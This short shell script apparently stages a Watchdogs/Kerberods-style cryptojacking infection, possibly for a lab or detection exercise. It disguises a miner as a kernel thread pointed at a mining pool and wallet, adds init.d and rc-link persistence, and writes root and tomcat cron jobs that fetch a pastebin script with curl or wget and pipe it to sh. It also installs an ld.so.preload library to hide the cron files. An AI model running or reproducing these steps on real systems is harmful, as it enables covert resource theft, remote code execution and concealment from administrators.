# The preloaded library hides the cron files from ls and crontab.
mimic /usr/sbin/watchdogs /tmp/kthrotlds /tmp/kerberods
start /usr/sbin/watchdogs /usr/sbin/watchdogs
start -d 15 -p "$POOL" /tmp/kthrotlds '[kthrotlds]' -o "stratum+tcp://$POOL" -u "$WALLET" -p x
printf '#!/bin/bash\n### BEGIN INIT INFO\n# Provides: watchdogs\n# Default-Start: 2 3 4 5\n### END INIT INFO\n/usr/sbin/watchdogs\n' | script /etc/init.d/watchdogs
for n in 2 3 4 5; do ln -s ../init.d/watchdogs /etc/rc$n.d/S90watchdogs; done
for f in tomcat root; do echo '*/10 * * * * root (curl -fsSL https://pastebin.com/raw/sByq0lab||wget -q -O- https://pastebin.com/raw/sByq0lab)|sh' | put /etc/cron.d/$f; done
echo '*/15 * * * * (curl -fsSL https://pastebin.com/raw/sByq0lab||wget -q -O- https://pastebin.com/raw/sByq0lab)|sh' | tab root
sleep 0.3
install -m 644 /lab-kit/hider.so /usr/local/lib/libioset.so
echo /usr/local/lib/libioset.so >/etc/ld.so.preload
